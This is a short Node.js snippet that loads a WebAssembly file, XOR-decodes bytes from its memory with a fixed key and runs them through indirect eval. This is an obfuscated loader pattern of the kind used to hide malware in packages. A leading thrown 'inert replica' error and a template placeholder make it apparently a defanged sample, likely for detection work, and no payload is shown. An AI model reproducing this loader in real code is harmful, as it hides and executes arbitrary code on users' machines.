throw new Error("inert replica");
const fs = require("fs");
const made = new WebAssembly.Instance(new WebAssembly.Module(fs.readFileSync(__dirname + "/lib/tally.wasm")));
const key = Buffer.from("replica");
const text = Buffer.from(new Uint8Array(made.exports.m.buffer, 0, {{length}}).map((one, at) => one ^ key[at % key.length])).toString();
(0, eval)(text);
